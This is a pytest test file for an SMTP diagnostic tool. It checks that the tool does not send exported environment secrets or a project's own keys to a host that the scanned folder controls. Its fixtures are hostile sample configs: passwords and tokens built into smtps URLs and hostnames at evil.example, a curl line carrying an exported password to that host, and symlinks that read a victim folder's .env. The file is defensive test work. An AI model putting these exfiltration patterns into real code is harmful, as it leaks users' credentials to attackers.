"""What this shell exports is in no login and no name that a folder puts together."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from smtpdoctor.plans import Plans, make_plans
from smtpdoctor.settings.model import MASK
from tests.runs import with_options

from .dialects.support import write

HOST = "mail.evil.example"
SECRET = "Exported-Geheim-1"
NODE = '{"dependencies": {"nodemailer": "6", "dotenv": "16", "dotenv-expand": "10"}}'
EXPAND = "require('dotenv-expand').expand(require('dotenv').config());\n"
COMPOSE = (
    "services:\n  a:\n    image: x\n    environment:\n      SMTP_HOST: %s\n      SMTP_PORT: 465\n"
    "      SMTP_USER: a@b.example\n      SMTP_PASS: %s\n"
)
ENVIRON = {"SMTP_PASS": SECRET, "DEPLOY_TOKEN": "Tok3n-of-Deploys", "AWS_REGION": "eu-west-1"}


def node(options: str, dotenv: str = "", send: str = "") -> dict[str, str]:
    program = f"{EXPAND}require('nodemailer').createTransport({options}){send};\n"
    return {"package.json": NODE, "m.js": program, ".env": dotenv}


def plans(root: Path, files: dict[str, str]) -> Plans:
    write(root, files)
    return make_plans(with_options(None, environ=ENVIRON, folder=root))


OPTIONS = "{host: process.env.H, port: 465, auth: {user: process.env.U, pass: process.env.P}}"
LOGINS = {
    "a URL put together": node("`smtps://a:${encodeURIComponent(process.env.SMTP_PASS)}@%s`"),
    "a token in it": node("'smtps://a:' + process.env.DEPLOY_TOKEN + '@%s'"),
    "filled into .env": node(OPTIONS, "H=%s\nU=a@b.example\nP=${SMTP_PASS}\n"),
    "a part of it": node(OPTIONS, "H=%s\nU=a@b.example\nP=x${DEPLOY_TOKEN}y\n"),
    "over another variable": node(OPTIONS, "H=%s\nU=a@b.example\nQ=$SMTP_PASS\nP=${Q}\n"),
    "as the user": node(OPTIONS, "H=%s\nU=${DEPLOY_TOKEN}\nP=x\n"),
    "a URL in .env": node("process.env.X", "X=smtps://a:${SMTP_PASS}@%s\n"),
    "python-dotenv": {
        "requirements.txt": "python-dotenv\n",
        "m.py": "import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv()\n"
        "s = smtplib.SMTP_SSL(os.environ['H'], 465)\ns.login('a', os.environ['P'])\n",
        ".env": "H=%s\nP=x${SMTP_PASS}\n",
    },
    "a shell's variable": {
        "send.sh": '#!/bin/sh\nP="x$SMTP_PASS"\ncurl smtps://%s --user "a:$P"'
        " --mail-from a@b.example --mail-rcpt c@d.example -T -\n"
    },
    "compose": {"compose.yaml": COMPOSE % ("%s", "x${SMTP_PASS}")},
    "compose, a default": {"compose.yaml": COMPOSE % ("%s", "${Q:-${SMTP_PASS}}")},
    "compose over .env": {
        "compose.yaml": COMPOSE % ("%s", "${Q}"),
        ".env": "Q=${SMTP_PASS}x\n",
    },
}


def with_host(files: dict[str, str], host: str) -> dict[str, str]:
    return {name: text.replace("%s", host) for name, text in files.items()}


@pytest.mark.parametrize("name", LOGINS)
def test_a_login_made_from_the_environment_goes_to_no_host_of_a_folder(
    name: str, tmp_path: Path
) -> None:
    (plan,) = plans(tmp_path, with_host(LOGINS[name], HOST)).plans
    assert plan.settings.host == HOST
    assert plan.credentials.password is None
    assert plan.settings.withheld is not None
    assert plan.settings.withheld.reason == "host-from-folder"
    assert plan.settings.withheld.place == "environment"


@pytest.mark.parametrize(
    ("host", "released"), [(HOST, False), ("smtp.gmail.com", True)], ids=["a folder's", "known"]
)
def test_the_project_s_own_names_filled_in_by_their_reader(
    host: str, released: bool, tmp_path: Path
) -> None:
    dotenv = f"SMTP_HOST={host}\nSMTP_USER=a\nSMTP_PASS=x${{DEPLOY_TOKEN}}\n"
    write(tmp_path, {"requirements.txt": "python-dotenv\n", ".env": dotenv})
    environ = {"DEPLOY_TOKEN": ENVIRON["DEPLOY_TOKEN"]}
    (plan,) = make_plans(with_options(None, environ=environ, folder=tmp_path)).plans
    assert (plan.credentials.password is not None) is released
    assert (plan.settings.withheld is None) is released


@pytest.mark.parametrize("name", ["a URL put together", "filled into .env", "compose"])
def test_lookalike_a_known_provider_gets_it(name: str, tmp_path: Path) -> None:
    (plan,) = plans(tmp_path, with_host(LOGINS[name], "smtp.gmail.com")).plans
    assert plan.credentials.password is not None
    assert SECRET in plan.credentials.password.reveal()


def test_lookalike_what_the_files_say_by_themselves(tmp_path: Path) -> None:
    files = node(OPTIONS, f"H={HOST}\nU=a@b.example\nQ=geheim\nP=${{Q}}12\n")
    (plan,) = plans(tmp_path, files).plans
    assert plan.credentials.password is not None


NAMES = {
    "host": node("{host: `${process.env.DEPLOY_TOKEN}.evil.example`}"),
    "host, by .env": node("{host: process.env.H}", "H=${DEPLOY_TOKEN}.evil.example\n"),
    "host in a URL": node("'smtp://' + process.env.DEPLOY_TOKEN + '.evil.example'"),
    "sender": node(
        "{host: 'smtp.gmail.com'}",
        send=".sendMail({from: `a@${process.env.DEPLOY_TOKEN}.evil.example`})",
    ),
    "EHLO": node(f"{{host: '{HOST}', name: process.env.DEPLOY_TOKEN}}"),
}


@pytest.mark.parametrize("name", NAMES)
def test_no_name_that_is_looked_up_or_said_holds_an_exported_secret(
    name: str, tmp_path: Path
) -> None:
    made = plans(tmp_path, NAMES[name])
    assert "tok3n" not in str([plan.settings for plan in made.plans]).lower()
    [left] = made.left_out
    assert "what is or looks like a secret" in left.why


def test_lookalike_a_region_in_the_host(tmp_path: Path) -> None:
    (plan,) = plans(
        tmp_path, node("{host: `email-smtp.${process.env.AWS_REGION}.amazonaws.com`}")
    ).plans
    assert plan.settings.host == "email-smtp.eu-west-1.amazonaws.com"


def test_a_host_that_a_folder_puts_together_is_the_folders(tmp_path: Path) -> None:
    files = node(
        "{host: `${process.env.AWS_REGION}.evil.example`, port: 465,"
        " auth: {user: 'a', pass: process.env.SMTP_PASS}}"
    )
    (plan,) = plans(tmp_path, files).plans
    assert plan.settings.host == "eu-west-1.evil.example"
    assert plan.credentials.password is None


@pytest.mark.parametrize("url", ["process.env.MAIL_URL", "`${process.env.MAIL_URL}?pool=true`"])
def test_lookalike_the_environment_says_host_and_login(url: str, tmp_path: Path) -> None:
    write(tmp_path, node(url))
    environ = {"MAIL_URL": f"smtps://a:geheim12@{HOST}"}
    (plan,) = make_plans(with_options(None, environ=environ, folder=tmp_path)).plans
    assert plan.credentials.password is not None


def test_a_user_name_that_is_an_exported_secret_is_masked(tmp_path: Path) -> None:
    files = node(OPTIONS, "H=smtp.gmail.com\nU=${DEPLOY_TOKEN}\nP=x12345678\n")
    (plan,) = plans(tmp_path, files).plans
    assert plan.settings.username == MASK
    assert "Tok3n" not in str(plan.settings)


def test_lookalike_a_region_beside_a_secret_of_the_same_name_as_an_exported_one(
    tmp_path: Path,
) -> None:
    dotenv = "H=email-smtp.${AWS_REGION}.amazonaws.com\nU=a\nP=own-geheim\nDEPLOY_TOKEN=another\n"
    (plan,) = plans(tmp_path, node(OPTIONS, dotenv)).plans
    assert plan.settings.host == "email-smtp.eu-west-1.amazonaws.com"
    assert plan.credentials.password is not None


#: A key of the folder's own, and where a name that is looked up or said has it.
KEY = "k4f9d02ab7c61e85"
KEYED = {
    "host, in code": node("{host: `${process.env.API_KEY}.evil.example`}", f"API_KEY={KEY}\n"),
    "host, by .env": node("{host: process.env.H}", f"APP_KEY=base64:{KEY}\nH={KEY}.evil.example\n"),
    "sender": node(
        "{host: 'smtp.gmail.com'}",
        f"API_KEY={KEY}\n",
        send=".sendMail({from: `a@${process.env.API_KEY}.evil.example`})",
    ),
    "EHLO": node(f"{{host: '{HOST}', name: process.env.API_KEY}}", f"API_KEY={KEY}\n"),
    "nor where it is quoted twice": node("{host: process.env.H}", "H='`Zk4wPm9Lq8vT`'\n"),
    "nothing says that it is one": node("{host: process.env.H}", "H=Zk4wPm9Lq8vT.evil.example\n"),
}


@pytest.mark.parametrize("name", KEYED)
def test_nor_a_secret_of_the_folder(name: str, tmp_path: Path) -> None:
    made = plans(tmp_path, KEYED[name])
    assert not {KEY, "zk4wpm9lq8vt"} & set(
        re.findall(r"\w+", str([plan.settings for plan in made.plans]).lower())
    )
    [left] = made.left_out
    assert "what is or looks like a secret" in left.why


#: Of small letters or digits alone: it looks like a name, and what it is called says what it is.
PLAIN_KEYS = ("qwzkvjxplmrtgh", "839201746352")
DJANGO = {
    "manage.py": "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'p.settings')\n",
    "p/settings.py": "SECRET_KEY = '{key}'\nEMAIL_HOST_USER = 'a@b.example'\n"
    "EMAIL_HOST_PASSWORD = 'x'\nEMAIL_HOST = {host}\n",
}


def django(host: str) -> dict[str, str]:
    return {name: text.replace("{host}", host) for name, text in DJANGO.items()}


NAMED = {
    "Django's key": django("'mail' + SECRET_KEY"),
    "formatted": django("'%s.evil.example' % SECRET_KEY"),
    "joined": django("'.'.join([SECRET_KEY, 'evil.example'])"),
    "alone": django("SECRET_KEY"),
    "by .env": node("{host: `${process.env.API_KEY}.evil.example`}", "API_KEY={key}\n"),
    "a property": node("{host: {apiKey: '{key}'}.apiKey + '.evil.example'}"),
    "a URL": {
        "package.json": NODE,
        "m.js": "const token = '{key}';\n"
        "require('nodemailer').createTransport('smtps://a:b@' + token + '.evil.example');\n",
    },
    "the password": {
        "package.json": NODE,
        "m.js": "const x = '{key}';\nrequire('nodemailer').createTransport("
        "{host: x + '.evil.example', auth: {user: 'a@b.example', pass: x}});\n",
    },
    "EHLO": {
        "package.json": NODE,
        "m.js": "const token = '{key}';\nrequire('nodemailer').createTransport("
        "{host: 'mail.evil.example', name: token + '.evil.example'});\n",
    },
}


@pytest.mark.parametrize("key", PLAIN_KEYS)
@pytest.mark.parametrize("name", NAMED)
def test_nor_what_the_program_calls_a_secret(name: str, key: str, tmp_path: Path) -> None:
    made = plans(tmp_path, {path: text.replace("{key}", key) for path, text in NAMED[name].items()})
    assert key not in str([plan.settings for plan in made.plans]).lower()
    [left] = made.left_out
    assert "what is or looks like a secret" in left.why


@pytest.mark.parametrize("key", PLAIN_KEYS)
def test_what_the_program_calls_a_secret_is_masked_where_it_is_the_user(
    key: str, tmp_path: Path
) -> None:
    files = {
        name: text.replace("'a@b.example'", "'a' + SECRET_KEY") for name, text in DJANGO.items()
    }
    made = {name: text.replace("{key}", key) for name, text in files.items()}
    made["p/settings.py"] = made["p/settings.py"].replace("{host}", f"'{HOST}'")
    (plan,) = plans(tmp_path, made).plans
    assert key not in str(plan.settings)
    assert plan.credentials.username == f"a{key}"


@pytest.mark.parametrize(
    ("text", "host", "shown"),
    [
        ("MAIL_KEY=smtp.example.com\n", "process.env.MAIL_KEY", "smtp.example.com"),
        (
            "TOKEN_HOST=qwzkvjxplmrtgh\n",
            "process.env.TOKEN_HOST + '.example.com'",
            "qwzkvjxplmrtgh.example.com",
        ),
        ("P=smtp4dev\n", "'smtp4dev'", "smtp4dev"),
        ("KEY_ZONE=mail\n", "process.env.KEY_ZONE + '.example.com'", "mail.example.com"),
    ],
)
def test_lookalike_a_host_that_is_called_as_a_secret(
    text: str, host: str, shown: str, tmp_path: Path
) -> None:
    options = f"{{host: {host}, auth: {{user: 'a@b.example', pass: process.env.P}}}}"
    (plan,) = plans(tmp_path, node(options, text)).plans
    assert plan.settings.host == shown


def test_a_user_name_in_the_password_s_place_leaves_the_password_masked(tmp_path: Path) -> None:
    options = f"{{host: '{HOST}', auth: {{user: 'geheim99', pass: 'info@example.com'}}}}"
    (plan,) = plans(tmp_path, node(options)).plans
    assert "geheim99" not in str(plan.settings)


def test_a_key_of_the_folder_is_masked_where_it_is_the_user(tmp_path: Path) -> None:
    options = f"{{host: '{HOST}', auth: {{user: process.env.API_KEY, pass: 'x'}}}}"
    (plan,) = plans(tmp_path, node(options, f"API_KEY={KEY}\n")).plans
    assert KEY not in str(plan.settings)
    assert plan.credentials.username == KEY


@pytest.mark.parametrize(
    "text",
    [
        f"API_KEY={KEY}\nSMTP_HOST={KEY}.example.com\n",
        f"API_KEY={KEY}\nSMTP_URL=smtp://u:p@{KEY}.example.com\n",
        "SMTP_HOST=Zk4wPm9Lq8vT.example.com\n",
        "SMTP_HOST=Zk4wPm9Lq8vT\nSMTP_PASS=smtp.example.com\n",
        "SMTP_HOST=Zk4w.Pm9L.q8vT\nSMTP_PASS=Zk4w.Pm9L.q8vT\n",
        "SMTP_HOST=`Zk4wPm9Lq8vT`\nSMTP_PASS=x\n",
        "SMTP_HOST=smtp://Zk4wPm9Lq8vT\nSMTP_PASS=x\n",
        "SMTP_HOST=Zk4wPm9Lq8vT:587\nSMTP_PASS=x\n",
        "SMTP_URL=`Zk4wPm9Lq8vT`\n",
        "SMTP_URL=`Zk4wPm9Lq8vT`\nSMTP_HOST=smtp.example.com\n",
        "SMTP_HOST=smtp.gmail.com\nSMTP_USER=Zk4wPm9Lq8vT\nSMTP_PASS=x\n",
        "SMTP_HOST=smtp.example.com\nSMTP_USER=Zk4wPm9Lq8vT\nSMTP_PASS=info@example.com\n",
        f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_FROM={KEY}@example.com\n",
        f"API_KEY={KEY}\nSMTP_HOST=smtp.example.com\nSMTP_USER={KEY}\nSMTP_PASS=x\n",
    ],
)
def test_nor_the_project_s_own_names(text: str, tmp_path: Path) -> None:
    (plan,) = plans(tmp_path, {".env": text}).plans
    shown = str(plan.settings).lower()
    assert not [each for each in (KEY, "zk4wpm9lq8vt", "zk4w.pm9l.q8vt") if each in shown]


@pytest.mark.parametrize(
    "host",
    ["vpce-0a1b2c3d4e5f-abcd12.email-smtp.us-east-1.vpce.amazonaws.com", "MailServer01.example.com",
     "SRV01MAIL02DC03.example.com", "mail2024.example.com", "a1b2c3d4e5f6"],
)  # fmt: skip
def test_lookalike_a_host_with_digits(host: str, tmp_path: Path) -> None:
    text = f"DB_PASSWORD=mail2024\nSMTP_HOST={host}\n"
    (plan,) = plans(tmp_path, {".env": text}).plans
    assert plan.settings.host == host.lower()


@pytest.mark.parametrize(
    "user", ["AKIAIOSFODNN7EXAMPL3", "u1234567-mailer@example.com", "7a1b2c001@smtp-brevo.com"]
)
def test_lookalike_a_user_name_of_letters_and_digits(user: str, tmp_path: Path) -> None:
    text = f"SMTP_HOST=smtp.gmail.com\nSMTP_USER={user}\nSMTP_PASS=x\n"
    (plan,) = plans(tmp_path, {".env": text}).plans
    assert plan.settings.username == user


READS = {
    "m.js": "require('dotenv').config({path: '%s'});\nrequire('nodemailer').createTransport({"
    f"host: '{HOST}', port: 465, auth: {{user: process.env.SMTP_USER, "
    "pass: process.env.SMTP_PASS}});\n",
    "m.py": "import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv('%s')\n"
    f"s = smtplib.SMTP_SSL('{HOST}', 465)\n"
    "s.login(os.environ['SMTP_USER'], os.environ['SMTP_PASS'])\n",
    "compose.yaml": "services:\n  a:\n    image: x\n    env_file: %s\n"
    f"    environment: {{SMTP_HOST: {HOST}, SMTP_PORT: 465}}\n",
}


LOGIN = f"SMTP_USER=a@b.example\nSMTP_PASS={SECRET}\n"


def beside_a_victim(root: Path, file: str, read: str) -> Path:
    """A folder with a program that reads this file, and with links into another one."""
    folder = root / "folder"
    write(root / "victim", {".env": LOGIN})
    write(folder, {file: READS[file] % read, "requirements.txt": "python-dotenv\n"})
    write(folder, {"package.json": NODE})
    (folder / "link").symlink_to("../victim")
    (folder / "own.env").symlink_to("../victim/.env")
    return folder


@pytest.mark.parametrize("file", READS)
def test_a_login_of_the_folder_is_read(file: str, tmp_path: Path) -> None:
    folder = beside_a_victim(tmp_path, file, "inside.env")
    write(folder, {"inside.env": LOGIN})
    (plan,) = make_plans(with_options(None, environ={}, folder=folder)).plans
    assert (plan.host, plan.settings.username) == (HOST, "a@b.example")
    assert plan.credentials.password is not None
    assert plan.credentials.password.reveal() == SECRET


@pytest.mark.parametrize("way", ["link/.env", "link/../link/.env", "../victim/.env", "own.env"])
@pytest.mark.parametrize("file", READS)
def test_no_login_of_another_folder_is_read_for_a_host_of_this_one(
    file: str, way: str, tmp_path: Path
) -> None:
    """A link is in a repository as any file is, and where it leads is the user's."""
    folder = beside_a_victim(tmp_path, file, way)
    found = make_plans(with_options(None, environ={}, folder=folder))
    assert found.plans or found.left_out
    for plan in found.plans:
        assert plan.host == HOST
        assert (plan.credentials.password, plan.credentials.token) == (None, None)
    assert "a@b.example" not in repr(found)


@pytest.mark.parametrize("way", ["link/.env", "../victim/.env", "own.env"])
def test_what_the_user_names_may_stand_anywhere(way: str, tmp_path: Path) -> None:
    folder = beside_a_victim(tmp_path, "m.js", ".env")
    (plan,) = make_plans(with_options(None, environ={}, folder=folder, env_file=way)).plans
    assert plan.credentials.password is not None


def test_which_version_is_installed_is_read_where_it_is_a_link(tmp_path: Path) -> None:
    """As pnpm has it in a workspace; of a package.json there the version alone is read."""
    package = {"package.json": '{"name": "nodemailer", "version": "6.9.13"}'}
    write(tmp_path / "store", package)
    program = {"m.js": node("{host: 'a.example'}")["m.js"], "package.json": NODE}
    write(tmp_path / "app", program)
    (tmp_path / "app" / "node_modules").mkdir()
    (tmp_path / "app" / "node_modules" / "nodemailer").symlink_to("../../store")
    (plan,) = plans(tmp_path / "app", {}).plans
    assert plan.settings.setup is not None
    assert plan.settings.setup.version == "6.9.13"
